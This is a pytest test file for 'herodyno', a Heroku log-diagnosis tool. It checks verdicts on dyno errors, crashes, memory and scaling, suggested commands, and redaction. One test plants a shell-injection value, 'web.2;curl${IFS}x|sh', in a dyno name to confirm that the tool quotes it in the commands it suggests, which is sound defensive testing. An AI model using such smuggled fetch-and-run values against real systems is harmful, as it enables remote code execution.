"""One verdict by precedence, words that claim no more than the data, and advice that touches the right id or none."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest

from herodyno.diagnosis.report.exit_codes import exit_code
from herodyno.dynos import App, Dyno, DynoSize, Formation, Release
from herodyno.render.diagnosis.document import diagnosis_document
from tests.diagnosis.reading import NOON, failed, judged, limits_of, log, request, sample, stamp, two_releases
from tests.diagnosis.traffic import NEW, OLD, errors, restart, traffic

CONFIRMED = ("-a", "example-app", "--confirm", "example-app")


def router(seconds: float, code: str, status: int = 503) -> str:
    """A router line that names no dyno."""
    return (
        f'{stamp(seconds)} heroku[router]: at=error code={code} desc="x" method=GET path="/" '
        f'host=example-app.herokuapp.com request_id=5a fwd="192.0.2.7" dyno= connect= service= status={status} '
        "bytes= protocol=https\n"
    )


def test_the_errors_of_a_dead_incarnation_stay_its_own_and_nothing_is_restarted() -> None:
    found = judged(traffic(4, 300) + errors("web.2", 25, seconds=180) + restart(200, "web.2"))

    assert (found.verdict.kind, found.verdict.replaced) == ("one_dyno", True)
    assert "web.2 (aaaaaaaa) caused 25 of 25" in found.verdict.summary
    assert "already replaced at 12:03" in found.verdict.summary
    assert any("the new web.2 (bbbbbbbb) has 0 of" in sentence for sentence in found.verdict.details)
    assert not any(action.mutates for action in found.actions)


def test_a_name_from_the_log_is_quoted_wherever_it_stands_in_a_command() -> None:
    hostile = "web.2;curl${IFS}x|sh"
    found = judged((traffic(4, 200) + errors("web.2", 20)).replace("dyno=web.2 ", f"dyno={hostile} "))
    action = found.actions[0]

    assert action.argv[2] == hostile
    assert any(text.startswith(f"heroku ps:exec -d '{hostile}'") for _, text in action.notes)


def test_lines_of_another_program_are_no_reason_to_say_that_nothing_was_found() -> None:
    found = judged("".join(f"GET /{n} 200 in 3 ms\n" for n in range(500)))

    assert (found.verdict.kind, exit_code(found)) == ("not_enough_data", 30)
    assert found.verdict.details == ("500 of 500 lines are not in the form of Heroku's log.",)


def test_the_advice_names_the_id_it_holds_for() -> None:
    dynos = [
        Dyno(name=f"web.{n}", id=f"{n}0000000-0000-4000-8000-000000000000", type="web", state="up",
             created_at=NOON - timedelta(hours=22))
        for n in range(1, 5)
    ]  # fmt: skip

    action = judged(traffic(4, 200) + errors("web.2", 20), dynos).actions[0]

    expected = ("herodyno", "restart", "web.2", "--if-id", "20000000", "--verify", "5m", "-a", "example-app")
    assert (action.argv, action.mutates) == (expected, True)
    assert action.dyno_id == dynos[1].id
    assert "3 of 4 web dynos keep serving" in action.effect
    assert dict(action.notes)["wait?"] == "Heroku would recycle it anyway between 14:00 and 17:36 (daily cycle)"


def test_a_restart_is_not_advised_when_the_whole_app_fails() -> None:
    release = Release(version=413, created_at=NOON + timedelta(seconds=150), status="succeeded")
    earlier = Release(version=412, created_at=NOON - timedelta(days=1), status="succeeded")
    bad = "".join(errors(f"web.{n}", 20, start=180, seconds=180) for n in range(1, 5))

    found = judged(traffic(4, 300) + bad, releases=[release, earlier])

    assert found.verdict.kind == "whole_app"
    assert any("after release v413" in sentence for sentence in found.verdict.details)
    assert any("The order in time is no proof" in sentence for sentence in found.verdict.details)
    assert ("herodyno", "rollback", "v412", "-a", "example-app", "--confirm", "example-app") in [
        action.argv for action in found.actions
    ]
    assert any("not useful: restarting" in action.text for action in found.actions)


def test_one_dyno_cannot_be_told_from_its_app() -> None:
    assert judged(traffic(1, 200) + errors("web.1", 30)).verdict.kind == "single_dyno"


@pytest.mark.parametrize(("dynos", "kind"), [(1, "single_dyno"), (4, "whole_app")])
def test_an_outage_is_no_lack_of_data_though_its_bursts_are_few_events(dynos: int, kind: str) -> None:
    outage = "".join(failed(second / 10, f"web.{second % dynos + 1}", path="/") for second in range(600))
    assert judged(outage).verdict.kind == kind
    assert judged("".join(outage.splitlines(keepends=True)[:19])).verdict.kind == "not_enough_data"


def test_one_of_two_dynos_that_fails_whole_is_not_the_whole_app() -> None:
    half = "".join(failed(second / 10, "web.1", path="/") for second in range(300))
    assert judged(traffic(2, 200) + half).verdict.kind != "whole_app"


@pytest.mark.parametrize("lives", [1, 2])
def test_failures_of_several_lives_are_told_of_the_name_and_not_of_one_id(lives: int) -> None:
    samples = [
        sample(30.0 + 600 * i, "web.1", f"{str(i + 1) * 8}-1111-4111-8111-111111111111", 100.0) for i in range(lives)
    ]
    failures = [failed(40 + 600 * i + j, "web.1", path=f"/{j}") for i in range(lives) for j in range(0, 400, 10)]
    restart = f"{stamp(600)} heroku[web.1]: State changed from up to starting\n" if lives == 2 else ""
    found = judged("".join(sorted([*samples, *failures, restart])))

    assert found.verdict.kind == "single_dyno"
    assert ("web.1 (1111" in found.verdict.summary) == (lives == 1)
    assert "web.1 (2222" not in found.verdict.summary


def test_h13_before_an_exit_makes_a_crash_and_no_error_of_its_own() -> None:
    found = judged(log("three-ids-and-a-crash"))

    assert found.verdict.kind == "crash"
    assert "crashed once and was started again, exit status 1" in found.verdict.summary
    assert any("2 H13 lines came just before an exit" in sentence for sentence in found.verdict.details)


@pytest.mark.parametrize("name", ["daily-cycle", "restart-with-overlap", "idle-and-back", "scaled-down"])
def test_ordinary_ends_are_no_crash(name: str) -> None:
    assert judged(log(name)).verdict.kind in ("nothing_found", "not_enough_data")


def test_all_dynos_of_a_type_down_comes_before_everything() -> None:
    dynos = [
        Dyno(name=f"web.{n}", id=f"{n}0000000-0000-4000-8000-000000000000", type="web", state="crashed") for n in (1, 2)
    ]
    down = "".join(f"{stamp(350 + n)} heroku[web.{n}]: Process exited with status 137\n" for n in (1, 2))

    found = judged(traffic(2, 200) + errors("web.2", 30) + down, dynos)

    assert found.verdict.kind == "crash"
    assert found.verdict.severity == "critical"
    assert found.app.headline == ("web: none of 2 running",)
    assert "one_dyno" in {finding.kind for finding in found.findings}


def test_scaled_to_zero_names_who_and_when_in_the_log() -> None:
    scaled = f"{stamp(1)} app[api]: Scaled to web@0:Standard-1X by user ops@example.com\n"
    text = scaled + "".join(router(2 + i, "H14") for i in range(60))

    found = judged(text, formation=[Formation(type="web", quantity=0)])

    assert (found.verdict.kind, found.verdict.severity) == ("scaled_to_zero", "critical")
    assert found.verdict.details[0] == "web was scaled to 0 at 12:00."
    assert found.actions[0].argv[:3] == ("herodyno", "scale", "web=1")


def test_errors_that_name_no_dyno_blame_none() -> None:
    found = judged(traffic(3, 100) + "".join(router(i * 5, "H99") for i in range(38)))

    assert found.verdict.kind == "no_dyno_named"
    assert found.unattributed.errors == 38
    assert all(row.errors.n == 0 for row in found.incarnations)


def test_clients_that_leave_are_no_server_errors() -> None:
    gone = "".join(request(i * 4, f"web.{i % 3 + 1}", code="H27", status=499, service=3100) for i in range(80))

    found = judged(traffic(3, 200) + gone)

    assert (found.verdict.kind, exit_code(found)) == ("clients", 0)
    assert all(row.errors.n == 0 for row in found.incarnations)


def test_errors_and_memory_on_one_dyno_are_one_verdict_with_both_in_its_words() -> None:
    heavy = "".join(sample(t, "web.2", OLD, 781.21, swap=269.2) for t in range(0, 360, 20))

    found = judged(traffic(4, 200) + errors("web.2", 25) + heavy)

    assert found.verdict.kind == "one_dyno"
    assert "web.2 is also over its memory quota (781 of 512 MB, 153 %, at 12:05)." in found.verdict.details

    peers = "".join(sample(280, f"web.{n}", f"{n}0000000-0000-4000-8000-000000000000", 300) for n in (1, 3, 4))
    told = judged(traffic(4, 200) + errors("web.2", 25) + heavy + peers).verdict.details
    assert "It is also the only dyno over its memory quota (781 of 512 MB, 153 %, at 12:05)." in told
    assert "memory" in {finding.kind for finding in found.findings}


def test_memory_over_quota_without_errors_is_the_verdict() -> None:
    heavy = "".join(sample(t, "worker.1", OLD, 600.0, swap=80.0) for t in range(0, 360, 20))

    found = judged(heavy + traffic(2, 60))

    assert (found.verdict.kind, found.verdict.severity) == ("memory", "warning")
    assert "worker.1 (aaaaaaaa) is over the memory quota (600 of 512 MB, 117 %, at 12:05)" in found.verdict.summary


def test_a_larger_size_is_offered_with_its_price_by_the_api_or_without_any() -> None:
    heavy = "".join(sample(t, "web.1", OLD, 600.0) for t in range(0, 360, 20))
    dyno = Dyno(name="web.1", id=OLD, type="web", state="up", size="Standard-1X", created_at=NOON - timedelta(hours=2))
    small = DynoSize(name="Standard-1X", memory_gb=0.5, cost_cents=2500, cost_unit="month")
    large = DynoSize(name="Standard-2X", memory_gb=1.0, cost_cents=5000, cost_unit="month")

    texts = [action.text for action in judged(heavy, [dyno], sizes=[small, large]).actions]
    silent = [action.text for action in judged(heavy, [dyno]).actions]

    assert any("Standard-2X (1,024 MB; +$25/month for 1 dyno)" in text for text in texts)
    assert not any("$" in text for text in silent)


def test_an_empty_window_is_not_called_well() -> None:
    found = judged("")

    assert (found.verdict.kind, exit_code(found)) == ("not_enough_data", 30)


def test_no_errors_are_told_with_what_they_still_allow() -> None:
    found = judged(traffic(4, 200))

    assert found.verdict.summary == "no errors seen in 800 lines / 5 min 58 s: 0 of 800 requests failed (at most 0.5 %)"
    assert exit_code(found) == 0


def test_fir_says_that_only_a_live_look_can_tell() -> None:
    found = judged("", app=App(name="example-app", generation="fir"))

    assert "Fir keeps no log history" in found.verdict.details[0]
    assert any("absence means nothing" in note for note in found.coverage.notes)


def test_a_fir_name_is_an_incarnation_by_itself() -> None:
    names = ["web-848cd4f64d-pvpr2", "web-848cd4f64d-x7k2m", "web-848cd4f64d-q9q9q"]
    text = "".join(request(i, names[i % 3]) for i in range(360)) + "".join(
        failed(30 + i * 12, names[0], path=f"/p{i}") for i in range(25)
    )

    found = judged(text, app=App(name="example-app", generation="fir"))

    assert found.verdict.summary == "web-848cd4f64d-pvpr2 causes 25 of 25 server errors"
    assert found.incarnations[0].id_source == "name"


def test_lost_lines_are_of_this_stream_only_when_it_says_so() -> None:
    lost = (
        f"{stamp(10)} heroku[logplex]: Error L11 (Tail buffer overflow) -> This tail session dropped 500 messages "
        "since 2026-03-02 12:00:00.035136457 +0000 UTC.\n"
        f"{stamp(11)} heroku[logplex]: Error L10 (output buffer overflow): drain "
        "'d.efe51fd5-8fdb-4153-b094-f5e9f7df3058' dropped 12 messages since 2026-03-02T12:00:00+00:00.\n"
    )

    seen = judged(traffic(2, 100) + lost).coverage

    assert seen.lost_lines == 500
    assert {(loss.code, loss.lines, loss.this_stream) for loss in seen.losses} == {
        ("L11", 500, True),
        ("L10", 12, False),
    }


def test_ambiguous_requests_count_for_the_type_and_for_no_life() -> None:
    found = judged(log("restart-with-overlap"))

    assert found.coverage.ambiguous_requests == 1
    assert sum(row.requests.n for row in found.incarnations) == 3


def test_missing_metrics_are_told_with_the_command_that_turns_them_on() -> None:
    (note,) = judged(traffic(2, 100)).coverage.notes

    assert "heroku labs:enable log-runtime-metrics -a example-app" in note


def test_evidence_is_real_and_redacted() -> None:
    bad = "".join(
        failed(9 + i * 15, "web.2", path=f"/p{i % 7}?mail=a@example.com", client="203.0.113.9") for i in range(20)
    )

    found = judged(traffic(4, 200) + bad)

    lines = [shown.line for finding in found.findings for shown in finding.evidence]
    assert any("code=H12" in line for line in lines)
    assert not any("a@example.com" in line or "203.0.113.9" in line for line in lines)


def test_the_same_input_gives_the_same_bytes() -> None:
    text = traffic(4, 200) + errors("web.2", 20) + restart(200, "web.3")

    one, two = (json.dumps(diagnosis_document(judged(text))) for _ in range(2))

    assert one == two


def test_the_document_has_these_fields() -> None:
    answer = diagnosis_document(
        judged(traffic(4, 200) + errors("web.2", 20), at=datetime(2026, 3, 2, 12, 6, tzinfo=UTC))
    )

    assert answer["schema"] == "herodyno.diagnose/2"
    assert answer["generated_at"] == "2026-03-02T12:06:00.000000Z"
    assert answer["verdict"]["class"] == "one_dyno"
    assert set(answer) >= {
        "app", "coverage", "incarnations", "unattributed", "changes", "findings", "actions", "limits", "method", "api",
    }  # fmt: skip
    first = answer["incarnations"][0]
    assert (first["dyno"], first["errors"]["by_code"]) == ("web.2", {"H12": 20})
    assert first["outlier"]["sustained_buckets"] == "6/6"
    assert first["memory"]["trend"]["eta_quota"] is None
    json.dumps(answer, allow_nan=False)


@pytest.mark.parametrize("word", ["root cause", "leak", "healthy", "noisy neighbour"])
def test_no_sentence_claims_more_than_the_data(word: str) -> None:
    texts = [
        traffic(4, 200) + errors("web.2", 20), traffic(1, 200) + errors("web.1", 30), log("three-ids-and-a-crash"),
        traffic(3, 100) + "".join(router(i * 5, "H99") for i in range(38)), "", traffic(4, 200),
    ]  # fmt: skip
    assert not any(word in json.dumps(diagnosis_document(judged(text))).lower() for text in texts)


def test_errors_mostly_on_a_dyno_that_cannot_be_judged_are_not_nothing() -> None:
    found = judged(traffic(4, 200) + errors("web.2", 60), two_releases())

    assert (found.verdict.kind, exit_code(found)) == ("not_enough_data", 30)
    assert found.verdict.details[0].startswith("web.2 (00000002): 60 of 260 requests failed; not judged: no other dyno")


def test_a_dyno_killed_for_memory_and_started_again_is_critical() -> None:
    killed = (
        f"{stamp(100)} heroku[web.1]: Process running mem=1051M(205.2%)\n"
        f"{stamp(100.01)} heroku[web.1]: Error R15 (Memory quota vastly exceeded)\n"
        f"{stamp(100.02)} heroku[web.1]: Stopping process with SIGKILL\n"
        f"{stamp(100.2)} heroku[web.1]: Process exited with status 137\n"
        f"{stamp(100.3)} heroku[web.1]: State changed from up to crashed\n"
        f"{stamp(101)} heroku[web.1]: State changed from crashed to starting\n"
        f"{stamp(103)} heroku[web.1]: Starting process with command `x`\n"
        f"{stamp(106)} heroku[web.1]: State changed from starting to up\n"
    )

    found = judged(traffic(3, 100) + killed)

    assert (found.verdict.kind, found.verdict.severity) == ("crash", "critical")


def test_a_code_nobody_knows_is_counted_nowhere_and_said() -> None:
    found = judged(traffic(3, 100) + request(10, "web.1", code="H77", status=503))

    assert "codes that herodyno does not know are in no count: H77 x1" in limits_of(found)
    assert all(row.errors.n == 0 for row in found.incarnations)


def test_a_whole_app_whose_rates_differ_says_so() -> None:
    bad = errors("web.1", 15) + errors("web.2", 40) + errors("web.3", 15)

    found = judged(traffic(3, 400) + bad)

    assert found.verdict.kind == "whole_app"
    assert found.verdict.summary.endswith("; more on web.2 (id unknown)")
    assert found.verdict.details[-1].endswith("not accused: 2.6 times its peers' rate, 3 needed.")
    assert not any("restarting" in action.text for action in found.actions)


def test_a_culprit_that_the_log_does_not_see_end_is_only_said_to_be_gone_since() -> None:
    later = [
        Dyno(name=f"web.{n}", id=f"0000000{n}-0000-4000-8000-000000000000", type="web", state="up",
             created_at=NOON + timedelta(days=3))
        for n in range(1, 5)
    ]  # fmt: skip
    metrics = "".join(
        sample(t, f"web.{n}", f"1000000{n}-0000-4000-8000-000000000000", 300) for n in range(1, 5) for t in (0, 359)
    )

    found = judged(traffic(4, 200) + errors("web.2", 25) + metrics, later, at=NOON + timedelta(days=4))

    assert found.verdict.summary.endswith("; replaced since the log ended")
    assert any("the API lists web.2 (00000002) under that name" in sentence for sentence in found.verdict.details)
    assert not any("ended" in change.text for change in found.changes)
    assert found.coverage.dynos_sampled == (4, 4)
    assert not any("labs:enable" in note for note in found.coverage.notes)


def test_a_release_just_before_the_window_is_named_without_a_claim() -> None:
    releases = [
        Release(version=413, created_at=NOON - timedelta(seconds=15)),
        Release(version=412, created_at=NOON - timedelta(days=1)),
    ]
    bad = "".join(errors(f"web.{n}", 20) for n in range(1, 5))

    found = judged(traffic(4, 300) + bad, releases=releases)

    assert any("whether they began with it is not shown" in sentence for sentence in found.verdict.details)
    assert ("herodyno", "rollback", "v412", "-a", "example-app", "--confirm", "example-app") in [
        action.argv for action in found.actions
    ]


def test_one_client_is_not_followed_by_no_dyno_stands_out() -> None:
    bad = "".join(failed(9 + i * 15, "web.2", path=f"/p{i % 7}", client="203.0.113.9") for i in range(20))

    assert "few_errors" not in {finding.kind for finding in judged(traffic(4, 200) + bad).findings}


def test_dynos_that_never_served_do_not_dilute_an_outage() -> None:
    """27 web dynos speak in the log, 3 are sent requests, and those fail."""
    spoken = "".join(f"{stamp(60 * k)} app[web.{n}]: working\n" for n in range(1, 28) for k in range(7))
    served = traffic(3, 50) + "".join(errors(f"web.{n}", 150) for n in (1, 2, 3))

    found = judged(spoken + served)

    assert (found.verdict.kind, exit_code(found)) == ("whole_app", 20)
    assert "over all 3 web dynos that served then (75 %)" in found.verdict.summary


def test_two_failing_dynos_of_many_that_serve_are_not_the_whole_app() -> None:
    found = judged(traffic(8, 200) + errors("web.1", 3) + errors("web.2", 3))

    assert found.verdict.kind != "whole_app"


@pytest.mark.parametrize(("dyno", "severity"), [("web.2", "critical"), ("web.3", "warning")])
def test_memory_trouble_makes_the_verdict_graver_on_the_accused_dyno_only(dyno: str, severity: str) -> None:
    level = "".join(sample(10 + 20 * i, dyno, NEW, 1000.0) for i in range(17))
    over = "".join(f"{stamp(11 + 20 * i)} heroku[{dyno}]: Error R14 (Memory quota exceeded)\n" for i in range(17))

    found = judged(traffic(4, 600) + errors("web.2", 25) + errors("web.3", 3) + level + over)

    assert found.verdict.kind == "one_dyno"
    assert [claim.severity for claim in found.findings if claim.kind == "memory"] == ["critical"]
    assert found.verdict.severity == severity


def test_the_headline_names_the_dynos_that_are_not_yet_on_the_newest_release() -> None:
    assert judged(traffic(4, 50), two_releases()).app.headline == ("web: 4, release v42 (not yet on web.2)",)


def test_a_client_that_asks_while_nobody_serves_is_not_told_as_one_failing_client() -> None:
    """No dyno is there to fail for anybody."""
    off = f"{stamp(0)} app[api]: Scaled to web@0:Standard-1X by user dev@example.com\n"
    lines = "".join(request(10 + i, "", status=503, code="H14", client="203.0.113.9") for i in range(60))

    found = judged(traffic(2, 100, seconds=-400) + off + lines)

    assert found.verdict.kind == "scaled_to_zero"
